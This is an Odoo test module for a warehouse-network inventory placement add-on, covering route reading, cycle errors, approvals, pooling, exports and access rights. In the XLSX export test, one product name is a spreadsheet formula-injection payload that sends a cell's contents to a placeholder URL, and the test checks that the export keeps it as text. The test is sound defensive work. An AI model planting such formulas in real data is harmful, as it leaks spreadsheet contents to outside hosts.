"""The network read from a central warehouse resupplying two regional ones, a bad
network (a cycle), placement proposals through the approval flow, access rights and
multi-company."""

import base64
import io
import math
import statistics
from datetime import timedelta

import openpyxl
from odoo import fields
from odoo.addons.stock_segment.tests.common import new_company_user
from odoo.exceptions import AccessError, UserError
from odoo.tests import TransactionCase, tagged
from odoo.tools import mute_logger

from invplan.policy import fill_rate_from_safety_factor, safety_factor_fill_rate


@tagged("post_install", "-at_install")
class TestNetwork(TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Network = cls.env["stock.network"]
        cls.Placement = cls.env["stock.network.placement"]
        cls.Proposal = cls.env["stock.replenishment.proposal"]
        cls.env["ir.config_parameter"].sudo().set_param(
            "stock_segment_replenishment.approver_id", 0
        )
        cls.company = cls.env["res.company"].create({"name": "Network Test Co"})
        cls.env.user.company_ids |= cls.company
        Warehouse = cls.env["stock.warehouse"].with_company(cls.company)
        cls.central = Warehouse.search([("company_id", "=", cls.company.id)], limit=1)
        cls.central.code = "CEN"
        cls.north = Warehouse.create(
            {
                "name": "Network North",
                "code": "NOR",
                "company_id": cls.company.id,
                "resupply_wh_ids": [(6, 0, cls.central.ids)],
            }
        )
        cls.south = Warehouse.create(
            {
                "name": "Network South",
                "code": "SOU",
                "company_id": cls.company.id,
                "resupply_wh_ids": [(6, 0, cls.central.ids)],
            }
        )
        # Transit times on the routes Odoo created: 2 days to North, 3 to South.
        for wh, days in ((cls.north, 2), (cls.south, 3)):
            route = cls.env["stock.route"].search(
                [("supplied_wh_id", "=", wh.id), ("supplier_wh_id", "=", cls.central.id)]
            )
            route.rule_ids[:1].delay = days
        cls.segment = cls.env["stock.segment"].create(
            {
                "name": "Network test",
                "code": "NT",
                "company_id": cls.company.id,
                "replenishment_policy": "sS",
                "service_metric": "cycle_service_level",
                "service_level_target": 95.0,
                "holding_cost_rate": 20.0,
                "network_placement": True,
            }
        )
        cls.segment_off = cls.segment.copy({"code": "NO", "network_placement": False})
        cls.products = (
            cls.env["product.product"]
            .with_company(cls.company)
            .create(
                [
                    {
                        "name": f"Network product {k}",
                        "type": "consu",
                        "is_storable": True,
                        "standard_price": 10.0 + k,
                    }
                    for k in range(3)
                ]
            )
        )
        cls.off_product = cls.products[2]
        Profile = cls.env["stock.planning.profile"]
        cls.profiles = Profile
        for product in cls.products:
            segment = cls.segment_off if product == cls.off_product else cls.segment
            for wh, mu, sd, lead in (
                (cls.central, 0.0, 0.0, 10.0),
                (cls.north, 8.0, 3.0, 2.0),
                (cls.south, 5.0, 2.0, 3.0),
            ):
                profile = Profile.create(
                    {"product_id": product.id, "warehouse_id": wh.id, "segment_id": segment.id}
                )
                profile.sudo().write(
                    {
                        "forecast_daily": mu,
                        "demand_sigma_daily": sd,
                        "lead_time_days": lead,
                        "reorder_point_qty": mu * lead,
                        "max_qty": mu * lead + 20.0,
                    }
                )
                cls.profiles |= profile
        cls.user = new_company_user(
            cls.env, "net_user", "stock_segment.group_planning_user", cls.company
        )
        cls.manager = new_company_user(
            cls.env, "net_manager", "stock_segment.group_planning_manager", cls.company
        )

    def network(self):
        return self.Network._for_company(self.company)._sync()

    def test_network_read_from_routes(self):
        network = self.network()
        self.assertEqual(network.state, "valid")
        self.assertEqual(network.kind, "distribution")
        arcs = {(a.supplier_wh_id, a.warehouse_id): a.lead_time_days for a in network.arc_ids}
        self.assertEqual(arcs, {(self.central, self.north): 2.0, (self.central, self.south): 3.0})
        roles = {n.warehouse_id: n.role for n in network.node_ids}
        self.assertEqual(roles[self.central], "root")
        self.assertEqual(roles[self.north], "leaf")
        self.assertEqual(roles[self.south], "leaf")
        node = network.node_ids.filtered(lambda n: n.warehouse_id == self.central)
        self.assertEqual(node.customer_count, 2)
        self.assertEqual(len(node.customer_arc_ids), 2)
        self.assertIn("<svg", network.diagram)
        self.assertIn("NOR", network.diagram)
        # Read again: the same arcs, not duplicated.
        self.assertEqual(len(self.network().arc_ids), 2)

    def _transfers(self, supplier, warehouse, durations):
        """Done transfers from ``supplier`` through transit into ``warehouse``, each
        taking the given days from shipment to receipt."""
        Move = self.env["stock.move"].sudo()
        transit = self.company.internal_transit_location_id
        product = self.products[0]
        start = fields.Datetime.now() - timedelta(days=60)
        for k, days in enumerate(durations):
            shipped = start + timedelta(days=k)
            vals = {
                "product_id": product.id,
                "product_uom": product.uom_id.id,
                "product_uom_qty": 5.0,
                "company_id": self.company.id,
                "state": "done",
            }
            out = Move.create(
                dict(
                    vals,
                    location_id=supplier.lot_stock_id.id,
                    location_dest_id=transit.id,
                    date=shipped,
                )
            )
            Move.create(
                dict(
                    vals,
                    location_id=transit.id,
                    location_dest_id=warehouse.lot_stock_id.id,
                    date=shipped + timedelta(days=days),
                    move_orig_ids=[(6, 0, out.ids)],
                )
            )

    def test_arc_lead_time_from_observed_transfers(self):
        durations = [3.0, 4.0, 5.0, 4.0, 3.0, 5.0]
        self._transfers(self.central, self.north, durations)
        self._transfers(self.central, self.south, [9.0, 9.0])  # too few: the route's 3 days
        network = self.network()
        north = network.arc_ids.filtered(lambda a: a.warehouse_id == self.north)
        south = network.arc_ids.filtered(lambda a: a.warehouse_id == self.south)
        self.assertEqual(north.lead_time_source, "observed")
        self.assertEqual(north.observation_count, 6)
        self.assertAlmostEqual(north.lead_time_days, statistics.mean(durations), places=4)
        self.assertAlmostEqual(north.lead_time_std_days, statistics.stdev(durations), places=2)
        self.assertEqual(north.route_delay_days, 2.0)
        self.assertEqual(south.lead_time_source, "route")
        self.assertEqual(south.observation_count, 2)
        self.assertEqual(south.lead_time_days, 3.0)
        # The placement plans the observed transit: North waits for the central
        # warehouse's service time plus 4 days.
        self.Network._run_placement(companies=self.company)
        rows = self.Placement.search(
            [("company_id", "=", self.company.id), ("product_id", "=", self.products[0].id)]
        )
        central = rows.filtered(lambda p: p.warehouse_id == self.central)
        north_row = rows.filtered(lambda p: p.warehouse_id == self.north)
        self.assertEqual(north_row.inbound_service_time, central.outbound_service_time + 4)
        # Fewer observations required than found on the South arc: observed there too.
        self.env["ir.config_parameter"].sudo().set_param(
            "stock_segment_network.min_transfer_observations", "2"
        )
        south = self.network().arc_ids.filtered(lambda a: a.warehouse_id == self.south)
        self.assertEqual((south.lead_time_source, south.lead_time_days), ("observed", 9.0))

    def test_cycle_is_a_clear_error(self):
        self.Network._run_placement(companies=self.company)
        self.assertTrue(self.Placement.search([("company_id", "=", self.company.id)]))
        self.central.resupply_wh_ids = [(6, 0, self.north.ids)]
        network = self.network()
        self.assertEqual(network.state, "invalid")
        self.assertIn("cycle", network.error_message)
        self.assertIn("CEN", network.error_message)
        self.assertIn("NOR", network.error_message)
        with mute_logger("odoo.addons.stock_segment_network.models.stock_network"):
            with self.assertRaisesRegex(UserError, "not valid.*cycle"):
                network.with_user(self.manager).action_run_placement()
            stats = self.Network._run_placement(companies=self.company)
        self.assertEqual(stats[self.company.id]["network"], "invalid")
        self.assertFalse(self.Placement.search([("company_id", "=", self.company.id)]))

    def test_placement_proposals_and_approval(self):
        stats = self.Network._run_placement(companies=self.company)[self.company.id]
        placements = self.Placement.search([("company_id", "=", self.company.id)])
        # Two opted-in products x three warehouses; the third product's segment is off.
        self.assertEqual(len(placements), 6)
        self.assertEqual(stats["placed"], 6)
        self.assertNotIn(self.off_product, placements.product_id)
        for product in self.products[:2]:
            rows = placements.filtered(lambda p, product=product: p.product_id == product)
            central = rows.filtered(lambda p: p.warehouse_id == self.central)
            # Central net demand: North and South together; vendor lead time in.
            self.assertAlmostEqual(central.net_demand_mean, 13.0)
            self.assertEqual(central.inbound_service_time, 10)
            # Same holding cost everywhere, vendor lead time 10 days against 2-3 days of
            # transit: the placement holds the stock at the regional warehouses only, and
            # costs less than every warehouse covering its own lead time.
            self.assertLess(
                sum(rows.mapped("placed_cost")), sum(rows.mapped("independent_cost")) - 1e-6
            )
            self.assertFalse(central.holds_stock)
            self.assertEqual(central.outbound_service_time, 10)
            self.assertAlmostEqual(central.safety_stock, 0.0)
            for row in rows:
                self.assertGreaterEqual(row.safety_stock, 0.0)
                self.assertAlmostEqual(
                    row.net_replenishment_time,
                    row.inbound_service_time - row.outbound_service_time,
                )
        proposals = placements.proposal_id
        self.assertEqual(len(proposals), stats["proposals"])
        self.assertTrue(proposals)
        self.assertEqual(set(proposals.mapped("state")), {"pending"})
        self.assertEqual(set(proposals.mapped("reason")), {"network"})
        # A Planning User cannot approve; a Planning Manager can.
        with self.assertRaises(AccessError):
            proposals.with_user(self.user).action_approve()
        proposals.with_user(self.manager).action_approve()
        self.assertEqual(set(proposals.mapped("state")), {"approved"})
        for placement in placements.filtered("proposal_id"):
            op = placement.proposal_id.orderpoint_id
            self.assertTrue(op)
            self.assertEqual(op.warehouse_id, placement.warehouse_id)
            self.assertEqual(op.product_min_qty, placement.proposal_id.new_min_qty)
            self.assertGreaterEqual(op.product_min_qty, placement.base_stock - 1e-6)
            self.assertLess(op.product_min_qty, placement.base_stock + 1.0)
            self.assertEqual(op.product_max_qty, op.product_min_qty + 20.0)
        # Placed again: the rules already hold the placement, no new proposal.
        stats = self.Network._run_placement(companies=self.company)[self.company.id]
        self.assertEqual(stats["proposals"], 0)

    def test_planning_run_step(self):
        steps = {s["code"]: s for s in self.env["stock.planning.run"]._planning_steps()}
        self.assertIn("network_placement", steps)
        self.assertGreater(
            steps["network_placement"]["sequence"], steps["replenishment"]["sequence"]
        )
        self.assertLess(steps["network_placement"]["sequence"], 40)
        stats = steps["network_placement"]["run"](self.company, None)
        self.assertEqual(stats["placed"], 6)

    def test_planning_run_step_plans_for_the_runs_day(self):
        """A run opened yesterday and resumed after midnight: the network step dates its
        placement, pooling and push transfers on the run's day, not on today."""
        self.segment.network_push = True
        Run = self.env["stock.planning.run"]
        today = Run._planning_day()
        day = today - timedelta(days=1)
        run = Run._open_run(self.company, day=day)
        step = run.step_ids.filtered(lambda s: s.code == "network_placement")
        stats = step._work()
        self.assertFalse(step.note)
        self.assertEqual(stats["placed"], 6)
        domain = [("company_id", "=", self.company.id)]
        placements = self.Placement.search(domain)
        self.assertEqual(len(placements), 6)
        self.assertEqual(set(placements.mapped("date")), {day})
        pooling = self.env["stock.network.pooling"].search(domain)
        self.assertTrue(pooling)
        self.assertEqual(set(pooling.mapped("date")), {day})
        # With no stock the first transfers leave on the run's day.
        transfers = self.env["stock.network.distribution"].search(domain)
        self.assertTrue(transfers)
        self.assertEqual(min(transfers.mapped("date_release")), day)

    def test_access_rights_and_companies(self):
        network = self.network()
        self.Network._run_placement(companies=self.company)
        other = self.env["res.company"].create({"name": "Network Other Co"})
        other_network = self.Network._for_company(other)._sync()
        # A planning user reads the network and the placement of their company only.
        Network = self.Network.with_user(self.user)
        self.assertEqual(Network.search([]), network)
        self.assertTrue(network.with_user(self.user).arc_ids)
        Placement = self.Placement.with_user(self.user)
        self.assertEqual(len(Placement.search([])), 6)
        with self.assertRaises(AccessError):
            other_network.with_user(self.user).read(["name"])
        # ... but cannot configure it nor run the placement.
        with self.assertRaises(AccessError):
            network.with_user(self.user).write({"name": "Renamed"})
        with self.assertRaises(AccessError):
            Network.create({"name": "Mine", "company_id": self.company.id})
        with self.assertRaises(AccessError):
            Placement.search([], limit=1).write({"safety_stock": 1.0})
        with self.assertRaises(UserError):
            network.with_user(self.user).action_run_placement()
        # The segment's opt-in is configuration: managers only.
        with self.assertRaises(AccessError):
            self.segment.with_user(self.user).write({"network_placement": False})

    def test_replenishment_leaves_placed_rules_alone(self):
        self.Network._run_placement(companies=self.company)
        placement = self.Placement.search(
            [("company_id", "=", self.company.id), ("proposal_id", "!=", False)], limit=1
        )
        network_proposal = placement.proposal_id
        off_profile = self.profiles.filtered(
            lambda p: p.product_id == self.off_product and p.warehouse_id == self.north
        )

        def vals(profile):
            return {
                "profile_id": profile.id,
                "segment_id": profile.segment_id.id,
                "action": "create",
                "new_min_qty": 1.0,
                "new_max_qty": 2.0,
                "reason": "recompute",
                "state": "pending",
                "within_tolerance": False,
            }

        batch = {
            "supplier_rows": [],
            "updates": [],
            "found": {},
            "creates": [vals(placement.profile_id), vals(off_profile)],
            "supersede": network_proposal.ids,
            "review_toggles": [],
            "calendar_releases": [],
            "periodic": set(),
            "synced": [],
        }
        stats = self.env["stock.planning.profile"]._write_batch({"today": placement.date}, batch)
        # The independent proposal of the placed plan is dropped, the other one kept.
        self.assertEqual(stats["proposals"], 1)
        self.assertEqual(network_proposal.state, "pending")
        proposals = self.Proposal.search(
            [("reason", "=", "recompute"), ("company_id", "=", self.company.id)]
        )
        self.assertEqual(proposals.profile_id, off_profile)

    def test_pooling_analysis(self):
        stats = self.Network._run_placement(companies=self.company)[self.company.id]
        rows = self.env["stock.network.pooling"].search([("company_id", "=", self.company.id)])
        # North + South for the two opted-in products (the central sells nothing itself).
        self.assertEqual(len(rows), 2)
        self.assertEqual(stats["pooling"], 2)
        self.assertEqual(set(rows.mapped("pair")), {"NOR + SOU"})
        for row in rows:
            # Square-root law on independent demand: pooling never holds more.
            self.assertLess(row.central_safety_stock, row.local_safety_stock)
            self.assertAlmostEqual(
                row.safety_stock_saving, row.local_safety_stock - row.central_safety_stock
            )
            self.assertEqual(row.recommendation, "central")
            self.assertGreater(row.local_value, row.central_value)
        self.assertEqual(len(self.env["stock.network.pooling"].with_user(self.user).search([])), 2)

    def test_pooling_xlsx_export(self):
        evil = '=HYPERLINK("http://x"&B2,"y")'
        self.products[0].name = evil
        self.Network._run_placement(companies=self.company)
        rows = self.env["stock.network.pooling"].search([("company_id", "=", self.company.id)])
        wizard = self.env["stock.network.pooling.export"].with_user(self.user).create({})
        action = wizard.with_context(allowed_company_ids=self.company.ids).action_export()
        self.assertIn("/web/content/", action["url"])
        self.assertTrue(wizard.file_name.endswith(".xlsx"))
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
        detail, summary = book.worksheets
        header = [c.value for c in detail[1]]
        self.assertEqual(header[:3], ["Analysed On", "Warehouse Pair", "Product"])
        body = list(detail.iter_rows(min_row=2, values_only=True))
        self.assertEqual(len(body), len(rows))
        by_product = {r[2]: r for r in body}
        for row in rows:
            line = by_product[row.product_id.display_name]
            self.assertEqual(line[1], "NOR + SOU")
            self.assertAlmostEqual(
                line[header.index("Safety Stock (local)")], row.local_safety_stock
            )
            self.assertAlmostEqual(line[header.index("Net Saving / Day")], row.net_saving)
            self.assertEqual(line[header.index("Recommendation")], "Pool centrally")
        # Totals per segment and pair: the two products of the one segment and pair.
        totals = list(summary.iter_rows(min_row=2, values_only=True))
        self.assertEqual(len(totals), 1)
        self.assertEqual(totals[0][1:4], ("NOR + SOU", 2, 2))
        self.assertAlmostEqual(totals[0][4], sum(rows.mapped("local_value")), places=2)
        self.assertAlmostEqual(totals[0][6], sum(rows.mapped("net_saving")), places=2)
        # A name that looks like a formula stays text.
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        self.assertTrue(any(c.value == evil and c.data_type == "s" for c in cells))
        self.assertFalse([c for c in cells if c.data_type == "f"])

    def test_exceptions(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "stock_segment_network.saving_threshold", "1"
        )
        self.Network._run_placement(companies=self.company)
        Exception_ = self.env["stock.planning.exception"]
        found = Exception_.search(
            [("source", "=", "network"), ("company_id", "=", self.company.id)]
        )
        inconsistent = found.filtered(lambda e: e.exception_type == "network_inconsistent")
        # No reorder rule yet at North and South: both too low for the central's service.
        self.assertEqual(inconsistent.profile_id.warehouse_id, self.north | self.south)
        self.assertEqual(len(inconsistent), 4)
        self.assertIn(self.central.name, inconsistent[0].message)
        unapplied = found.filtered(lambda e: e.exception_type == "network_saving_unapplied")
        self.assertTrue(unapplied)
        self.assertTrue(all(e.financial_impact > 0 for e in unapplied))
        # Approved: the saving is applied, its exceptions close at the next run.
        placements = self.Placement.search([("company_id", "=", self.company.id)])
        placements.proposal_id.with_user(self.manager).action_approve()
        self.Network._run_placement(companies=self.company)
        self.assertFalse(
            (unapplied | inconsistent).filtered(lambda e: e.state in ("new", "in_progress"))
        )

    def test_fill_rate_segment_uses_the_fill_rate_formula(self):
        """A fill-rate segment's 95 % is a fill rate with the plan's order quantity
        (here its min-max band, 20), not a 95 % cycle service level."""
        self.segment.service_metric = "fill_rate"
        self.Network._run_placement(companies=self.company)
        rows = self.Placement.search(
            [("company_id", "=", self.company.id), ("product_id", "=", self.products[0].id)]
        )
        north = rows.filtered(lambda p: p.warehouse_id == self.north)
        self.assertGreater(north.net_replenishment_time, 0)
        sigma_p = 3.0 * math.sqrt(north.net_replenishment_time)
        k = safety_factor_fill_rate(0.95, 20.0, sigma_p)
        self.assertAlmostEqual(north.safety_stock, max(0.0, k * sigma_p), places=4)
        self.assertAlmostEqual(
            float(fill_rate_from_safety_factor(north.safety_stock / sigma_p, 20.0, sigma_p)),
            0.95,
            places=6,
        )
        # Less than the cycle service level's z sigma sqrt(tau) at the same target.
        self.assertLess(north.safety_stock, 1.6448536269514722 * sigma_p - 1e-6)

    def test_exceptions_of_plans_no_longer_placed_are_closed(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "stock_segment_network.saving_threshold", "1"
        )
        self.Network._run_placement(companies=self.company)
        found = self.env["stock.planning.exception"].search(
            [("source", "=", "network"), ("company_id", "=", self.company.id)]
        )
        first = self.products[0]
        of_first = found.filtered(lambda e: e.product_id == first)
        others = found - of_first
        self.assertTrue(of_first)
        self.assertTrue(others)
        # The first product's central and North plans leave the network: South alone
        # still sells it, so it is no longer placed (one warehouse is no network).
        self.profiles.filtered(
            lambda p: p.product_id == first and p.warehouse_id != self.south
        ).active = False
        stats = self.Network._run_placement(companies=self.company)[self.company.id]
        self.assertFalse(
            self.Placement.search(
                [("company_id", "=", self.company.id), ("product_id", "=", first.id)]
            )
        )
        self.assertEqual(set(of_first.mapped("state")), {"done"})
        self.assertTrue(all(of_first.mapped("resolved_by_job")))
        self.assertEqual(stats["exceptions_closed"], len(of_first))
        # The other product is still placed: its exceptions stay open.
        self.assertEqual(set(others.mapped("state")), {"new"})
        # The segment opts out: every open network exception of the company closes.
        self.segment.network_placement = False
        self.Network._run_placement(companies=self.company)
        self.assertEqual(set(found.mapped("state")), {"done"})

    def test_warehouse_without_demand_is_left_out(self):
        product = self.products[1]
        south = self.profiles.filtered(
            lambda p: p.product_id == product and p.warehouse_id == self.south
        )
        south.sudo().write({"forecast_daily": 0.0, "demand_sigma_daily": 0.0})
        self.Network._run_placement(companies=self.company)
        rows = self.Placement.search(
            [("company_id", "=", self.company.id), ("product_id", "=", product.id)]
        )
        # South sells nothing of it and resupplies no one: a line Central -> North.
        self.assertEqual(rows.warehouse_id, self.central | self.north)
        central = rows.filtered(lambda p: p.warehouse_id == self.central)
        self.assertAlmostEqual(central.net_demand_mean, 8.0)

    def test_scheduler_resupplies_regional_and_buys_central(self):
        """Once approved, Odoo's own replenishment resupplies the regional warehouses
        from the central one and buys for the central one."""
        product = self.products[0].with_company(self.company)
        vendor = self.env["res.partner"].create({"name": "Network Vendor"})
        routes = self.env["stock.route"].search(
            [("supplied_wh_id", "in", (self.north | self.south).ids)]
        )
        routes.sequence = 1
        buy = self.env.ref("purchase_stock.route_warehouse0_buy")
        product.write(
            {
                "route_ids": [(6, 0, (routes | buy).ids)],
                "seller_ids": [
                    (
                        0,
                        0,
                        {
                            "partner_id": vendor.id,
                            "delay": 10,
                            "price": 10.0,
                            "company_id": self.company.id,
                        },
                    )
                ],
            }
        )
        self.Network._run_placement(companies=self.company)
        placements = self.Placement.search(
            [("company_id", "=", self.company.id), ("product_id", "=", product.id)]
        )
        placements.proposal_id.with_user(self.manager).action_approve()
        ops = placements.proposal_id.orderpoint_id
        self.assertEqual(len(ops), 3)
        Orderpoint = self.env["stock.warehouse.orderpoint"].with_company(self.company)
        for wh in (self.north | self.south, self.central):
            Orderpoint.browse(
                ops.filtered(lambda o, wh=wh: o.warehouse_id in wh).ids
            )._procure_orderpoint_confirm(company_id=self.company, raise_user_error=False)
        moves = self.env["stock.move"].search([("product_id", "=", product.id)])
        for wh in (self.north, self.south):
            inbound = moves.filtered(
                lambda m, wh=wh: (
                    m.location_dest_id == wh.lot_stock_id and m.location_id.warehouse_id != wh
                )
            )
            self.assertTrue(inbound, f"no transfer into {wh.code}")
        lines = self.env["purchase.order.line"].search([("product_id", "=", product.id)])
        self.assertTrue(lines)
        self.assertEqual(lines.order_id.picking_type_id.warehouse_id, self.central)

    def test_overview_card(self):
        card = self.env.ref("stock_segment_network.planning_card_network_placement")
        Card = card.with_user(self.manager).with_company(self.company)
        self.assertEqual(Card._card_network_placement()["count"], 0)
        self.Network._run_placement(companies=self.company)
        values = Card._card_network_placement()
        self.assertEqual(values["count"], 2)
        self.assertGreater(values["amount"], 0.0)
        self.assertEqual(values["state"], "warning")
        self.assertEqual(
            Card._card_action_network_placement()["res_model"], "stock.network.placement"
        )
        self.central.resupply_wh_ids = [(6, 0, self.north.ids)]
        self.Network._for_company(self.company)._sync()
        self.assertEqual(Card._card_network_placement()["state"], "danger")

    def test_push_segment_distribution(self):
        """A push segment: time-phased transfers to the regional warehouses, approved
        into Odoo's resupply route; their reorder rules proposed for archiving."""
        self.segment.network_push = True
        product = self.products[0]
        north_op = self.env["stock.warehouse.orderpoint"].create(
            {
                "product_id": product.id,
                "warehouse_id": self.north.id,
                "location_id": self.north.lot_stock_id.id,
                "company_id": self.company.id,
                "product_min_qty": 5.0,
                "product_max_qty": 10.0,
            }
        )
        stats = self.Network._run_placement(companies=self.company)[self.company.id]
        Distribution = self.env["stock.network.distribution"]
        transfers = Distribution.search([("company_id", "=", self.company.id)])
        self.assertEqual(stats["transfers"], len(transfers))
        self.assertTrue(transfers)
        self.assertEqual(transfers.supplier_wh_id, self.central)
        self.assertEqual(transfers.warehouse_id, self.north | self.south)
        self.assertEqual(set(transfers.mapped("state")), {"pending"})
        # No stock anywhere: the first transfer to North covers the safety stock and
        # the demand until the next day's arrival.
        first = transfers.filtered(
            lambda d: d.product_id == product and d.warehouse_id == self.north
        )
        self.assertEqual(
            min(first.mapped("date_arrival")) - min(first.mapped("date_release")), timedelta(days=2)
        )
        # The pushed warehouses' rules: archived through a proposal, none created.
        archive = self.Proposal.search([("orderpoint_id", "=", north_op.id)])
        self.assertEqual(archive.action, "archive")
        placements = self.Placement.search([("company_id", "=", self.company.id)])
        regional = placements.filtered(lambda p: p.warehouse_id != self.central)
        self.assertEqual(regional.proposal_id, archive)
        inconsistent = self.env["stock.planning.exception"].search(
            [("exception_type", "=", "network_inconsistent"), ("company_id", "=", self.company.id)]
        )
        self.assertFalse(inconsistent.filtered(lambda e: e.product_id != self.off_product))
        with self.assertRaises(AccessError):
            transfers.with_user(self.user).action_approve()
        todays = transfers.filtered(
            lambda d: d.date_release == min(transfers.mapped("date_release"))
        )
        todays.with_user(self.manager).action_approve()
        self.assertEqual(set(todays.mapped("state")), {"approved"})
        moves = self.env["stock.move"].search(
            [
                ("product_id", "in", todays.product_id.ids),
                ("location_dest_id", "=", self.north.lot_stock_id.id),
            ]
        )
        self.assertTrue(moves)
        # Planned again: the transfers underway count as receipts, the approved ones stay.
        to_north = transfers.filtered(lambda d: d.warehouse_id == self.north)
        before = sum(to_north.mapped("quantity"))
        approved = sum(todays.filtered(lambda d: d.warehouse_id == self.north).mapped("quantity"))
        self.Network._run_placement(companies=self.company)
        self.assertEqual(set(todays.exists().mapped("state")), {"approved"})
        pending = Distribution.search(
            [
                ("company_id", "=", self.company.id),
                ("warehouse_id", "=", self.north.id),
                ("state", "=", "pending"),
            ]
        )
        self.assertAlmostEqual(sum(pending.mapped("quantity")), before - approved, delta=2.0)
